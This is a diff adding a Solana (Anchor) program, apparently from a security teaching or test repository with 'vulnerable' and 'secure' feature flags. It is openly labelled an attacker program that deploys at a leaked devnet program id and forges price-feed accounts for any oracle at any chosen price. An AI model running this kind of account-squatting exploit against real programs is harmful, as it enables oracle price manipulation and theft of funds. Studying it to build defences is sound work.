@@ -0,0 +1,37 @@
+//! Attacker program deployed at `price_feed`'s stale devnet id.
+//!
+//! The devnet keypair was committed with the repository, so anyone can
+//! deploy to that address on any cluster. This program defines a
+//! `PriceFeed` with the same name and layout, so its accounts carry the
+//! same discriminator, and writes them at the PDAs `price_feed` would use
+//! for any oracle.
+
+use secref_prelude::*;
+
+declare_id!("DevnetFeed1111111111111111111111111111111111");
+
+pub mod instructions;
+pub mod state;
+
+pub use instructions::*;
+pub use state::*;
+
+#[cfg(all(test, feature = "vulnerable", feature = "secure"))]
+mod layout_tests;
+
+#[program]
+pub mod feed_squatter {
+    use super::*;
+
+    /// Create `oracle`'s feed for `mint` under this id, at any price
+    pub fn squat(ctx: Context<Squat>, oracle: Pubkey, price: u64) -> Result<()> {
+        let feed = &mut ctx.accounts.feed;
+        feed.authority = oracle;
+        feed.mint = ctx.accounts.mint.key();
+        feed.price = price;
+        feed.bump = ctx.bumps.feed;
+
+        msg!("Squatted {}'s feed at {}", oracle, price);
+        Ok(())
+    }
+}